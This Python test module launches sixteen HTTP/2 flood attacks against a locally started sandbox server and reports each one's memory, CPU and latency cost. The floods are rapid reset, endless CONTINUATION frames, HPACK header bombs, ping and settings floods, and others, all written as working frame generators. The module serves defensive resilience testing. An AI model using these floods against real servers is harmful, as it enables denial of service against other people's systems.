"""Floods of HTTP/2 frames, through every door that speaks HTTP/2.

python -m tests.attack.floods [NAME...] attacks a real `serve` and prints what each flood cost it.
"""

import os
import socket
import ssl
import sys
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from tempfile import TemporaryDirectory
from threading import Event, Lock, Thread
from time import monotonic

import h2.errors
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.support.doors import START, trusting
from tests.support.serving import Serving, served

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WAYS = ("tls", "tunnel", "tls-proxy")
CALM = h2.errors.ErrorCodes.ENHANCE_YOUR_CALM
SECONDS = 20.0
"""Seconds to wait until the sandbox closes the connection."""
STREAMS = 30_000
"""Maximum number of streams or frames of each connection."""

_BATCH = 500


def head(way: str, path: str = "/v1/accounts", method: str = "GET") -> list[tuple[str, str]]:
    scheme = "http" if way == "tls-proxy" else "https"
    return [(":method", method), (":scheme", scheme), (":authority", "localhost"), (":path", path)]


def block(*fields: tuple[str, str]) -> bytes:
    """Return an encoded block of fields. None enters the dynamic table, so the block is valid for any stream."""
    return Encoder().encode([(name, value, True) for name, value in fields], huffman=True)


def batches(frames: Iterator[Frame]) -> Iterator[bytes]:
    """Join the frames of one connection's attack into larger writes."""
    pending = bytearray()
    for number, frame in zip(range(2 * STREAMS), frames, strict=False):
        pending += frame.serialize()
        if number % _BATCH == _BATCH - 1:
            yield bytes(pending)
            pending.clear()
    yield bytes(pending)


def requests(way: str, *flags: str, method: str = "GET", path: str = "/v1/accounts") -> Iterator[HeadersFrame]:
    fields = block(*head(way, path, method))
    return (HeadersFrame(stream, fields, flags=("END_HEADERS", *flags)) for stream in range(1, 2**31, 2))


def rapid_reset(way: str) -> Iterator[Frame]:
    for request in requests(way, "END_STREAM"):
        yield request
        yield RstStreamFrame(request.stream_id, h2.errors.ErrorCodes.CANCEL)


def made_resets(way: str) -> Iterator[Frame]:
    """Make the sandbox reset each stream, because its window becomes too large."""
    for request in requests(way, "END_STREAM"):
        yield request
        yield WindowUpdateFrame(request.stream_id, 2**31 - 1)


def continuations(way: str) -> Iterator[Frame]:
    """End each block of headers with many empty frames."""
    for request in requests(way, "END_STREAM"):
        request.flags.discard("END_HEADERS")
        yield request
        for number in range(60):
            yield ContinuationFrame(request.stream_id, b"", flags=("END_HEADERS",) if number == 59 else ())


def endless_continuation(way: str) -> Iterator[Frame]:
    """Send a block of headers that does not end."""
    request = next(requests(way))
    request.flags.discard("END_HEADERS")
    yield request
    more = block(("x-more", "a" * 16_000))
    while True:
        yield ContinuationFrame(1, more)


def pings(way: str) -> Iterator[Frame]:
    while True:
        yield PingFrame(0, b"12345678")


def settings(way: str) -> Iterator[Frame]:
    while True:
        yield SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})


def unknown_settings(way: str) -> Iterator[Frame]:
    """Send unknown settings. The library h2 stores each of them."""
    for start in range(100, 60_000, 2000):
        yield SettingsFrame(0, dict.fromkeys(range(start, start + 2000), 1))


def priorities(way: str) -> Iterator[Frame]:
    for stream in range(1, 2**31, 2):
        yield PriorityFrame(stream, depends_on=0, stream_weight=1)


def empty_data(way: str) -> Iterator[Frame]:
    yield next(requests(way, method="POST"))
    while True:
        yield DataFrame(1)


def small_data(way: str) -> Iterator[Frame]:
    yield next(requests(way, method="POST"))
    while True:
        yield DataFrame(1, b"a")


def data_after_the_end(way: str) -> Iterator[Frame]:
    yield next(requests(way, "END_STREAM"))
    yield RstStreamFrame(1)
    while True:
        yield DataFrame(1, flags=("END_STREAM",))


def unknown_frames(way: str) -> Iterator[Frame]:
    while True:
        yield ExtensionFrame(0x42, 0, flag_byte=0, body=b"")


def closed_windows(way: str) -> Iterator[Frame]:
    """Keep a hundred answers waiting. Each frame makes the sandbox iterate over all of them."""
    yield SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    for request, _ in zip(requests(way, "END_STREAM", path="/_sandbox/openapi.yaml"), range(100), strict=False):
        yield request
    while True:
        yield WindowUpdateFrame(0, 1)


def header_bombs(way: str) -> Iterator[Frame]:
    """Put a large field into the table once. Each of the following bytes refers to it."""
    # A new name with a value of 4,000 bytes becomes entry 62.
    field = b"\x40\x06x-bomb\x7f" + bytes([0xA1, 0x1E]) + b"a" * 4000
    for request in requests(way, "END_STREAM"):
        request.data += field + b"\xbe" * 200
        yield request


def many_fields(way: str) -> Iterator[Frame]:
    """Send as many one-byte fields as possible."""
    for request in requests(way, "END_STREAM"):
        request.data += b"\x40\x01a\x01b" + b"\xbe" * 4000
        yield request


def huge_frame(way: str) -> Iterator[Frame]:
    """Announce frames of 16 MiB, and send only a part of each."""
    while True:
        yield _Announced(0x42, 0, flag_byte=0, body=b"a" * 1000)


class _Announced(ExtensionFrame):
    def serialize(self) -> bytes:
        return b"\xff\xff\xff" + super().serialize()[3:]


FLOODS: dict[str, Callable[[str], Iterator[Frame]]] = {
    flood.__name__.replace("_", "-"): flood
    for flood in (
        rapid_reset,
        made_resets,
        continuations,
        endless_continuation,
        pings,
        settings,
        unknown_settings,
        priorities,
        empty_data,
        small_data,
        data_after_the_end,
        unknown_frames,
        closed_windows,
        header_bombs,
        many_fields,
        huge_frame,
    )
}


class Http2Connection:
    """An HTTP/2 connection. Unlike with `ssl.SSLSocket`, one thread can send while another one receives."""

    def __init__(self, raw: socket.socket, ca_file: Path) -> None:
        context = trusting(ca_file)
        context.set_alpn_protocols(["h2"])
        self._raw, self._lock = raw, Lock()
        self._came, self._goes = ssl.MemoryBIO(), ssl.MemoryBIO()
        self._tls = context.wrap_bio(self._came, self._goes, server_hostname="localhost")
        while True:
            try:
                self._tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                raw.sendall(self._goes.read())
                self._came.write(raw.recv(65536))
        raw.sendall(self._goes.read())
        assert self._tls.selected_alpn_protocol() == "h2"

    def send(self, data: bytes) -> None:
        with self._lock:
            self._tls.write(data)
            data = self._goes.read()
        self._raw.sendall(data)

    def receive(self) -> bytes:
        """Return the next data, or nothing if the sandbox has closed the connection."""
        received = bytearray()
        while not received and (data := self._raw.recv(65536)):
            with self._lock:
                self._came.write(data)
                with suppress(ssl.SSLWantReadError):
                    while more := self._tls.read(65536):
                        received += more
                    break
        return bytes(received)

    def close(self) -> None:
        with suppress(OSError):
            self._raw.shutdown(socket.SHUT_RDWR)


@contextmanager
def http2(serving: Serving, way: str) -> Iterator[Http2Connection]:
    url = serving.tls if way == "tls" else serving.proxy
    address = ("127.0.0.1", int(url.rpartition(":")[2]))
    with socket.create_connection(address, timeout=START) as raw:
        if way == "tunnel":
            raw.sendall(b"CONNECT localhost:443 HTTP/1.1\r\nHost: localhost:443\r\n\r\n")
            assert b" 200 " in raw.recv(1000)
        yield Http2Connection(raw, serving.ca_file)


def frames(received: bytearray) -> Iterator[Frame]:
    """Return the complete frames in the received data."""
    while len(received) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(bytes(received[:9])))
        if len(received) < 9 + length:
            return
        frame.parse_body(memoryview(bytes(received[9 : 9 + length])))
        del received[: 9 + length]
        yield frame


@dataclass
class Attacker:
    """Attack through one connection in its own thread, and collect the result."""

    serving: Serving
    way: str
    flood: str
    sent: int = 0
    ends: list[int] = field(default_factory=list)
    """The error codes of all GOAWAY frames."""
    was_closed: bool = False

    def start(self) -> Thread:
        thread = Thread(target=self._attack)
        thread.start()
        return thread

    def _attack(self) -> None:
        with suppress(OSError), http2(self.serving, self.way) as connection:
            reader = Thread(target=self._read, args=(connection,))
            reader.start()
            until = monotonic() + SECONDS
            try:
                connection.send(PREFACE + SettingsFrame(0).serialize())
                for batch in batches(FLOODS[self.flood](self.way)):
                    if self.ends or self.was_closed or monotonic() > until:
                        break
                    connection.send(batch)
                    self.sent += len(batch)
            except OSError:
                pass
            reader.join(max(until - monotonic(), 0.1))
            connection.close()
            reader.join()

    def _read(self, connection: Http2Connection) -> None:
        received = bytearray()
        with suppress(OSError):
            while data := connection.receive():
                received += data
                self.ends += [frame.error_code for frame in frames(received) if isinstance(frame, GoAwayFrame)]
        self.was_closed = True


class Health:
    """Check the sandbox's health continuously inside the context. `slowest` is the longest response time."""

    def __init__(self, serving: Serving) -> None:
        self._url = f"{serving.direct}/_sandbox/health"
        self._ends = Event()
        self.slowest = 0.0
        self.answers = 0
        self._thread = Thread(target=self._ask)

    def __enter__(self) -> "Health":
        self._thread.start()
        return self

    def _ask(self) -> None:
        while True:
            began = monotonic()
            with urllib.request.urlopen(self._url, timeout=120) as answer:
                assert answer.status == 200
            self.slowest = max(self.slowest, monotonic() - began)
            self.answers += 1
            if self._ends.wait(0.02):
                return

    def __exit__(self, *_: object) -> None:
        self._ends.set()
        self._thread.join()


def memory(serving: Serving) -> int:
    """Return the memory in use, in bytes."""
    return int(Path(f"/proc/{serving.pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def cpu(serving: Serving) -> float:
    """Return the processor time so far, in seconds."""
    fields = Path(f"/proc/{serving.pid}/stat").read_text().rpartition(")")[2].split()
    return sum(map(int, fields[11:13])) / os.sysconf("SC_CLK_TCK")


def attack(serving: Serving, flood: str, *ways: str) -> list[Attacker]:
    """Attack with one connection for each way at the same time. Return when all have ended."""
    attackers = [Attacker(serving, way, flood) for way in ways]
    for thread in [attacker.start() for attacker in attackers]:
        thread.join()
    return attackers


def main(names: list[str]) -> None:
    for name in names or FLOODS:
        with TemporaryDirectory() as folder, served(Path(folder) / "serve") as serving:
            attack(serving, "pings", "tls")  # mitmproxy is loaded
            before, spent = memory(serving), cpu(serving)
            with Health(serving) as health:
                attackers = attack(serving, name, "tls", "tunnel")
            held, spent = memory(serving), cpu(serving) - spent
            began = monotonic()
            serving.stop()
            print(
                f"{name:22} {'/'.join(str(one.ends) for one in attackers):14}"
                f" closed {'/'.join(str(one.was_closed) for one in attackers)}"
                f" sent {sum(one.sent for one in attackers) // 1000:6} kB"
                f" health {health.slowest:5.2f} s of {health.answers}, cpu {spent:.1f} s"
                f" memory {before >> 20} -> {held >> 20} MB, stopped in {monotonic() - began:.1f} s",
                flush=True,
            )


if __name__ == "__main__":
    main(sys.argv[1:])
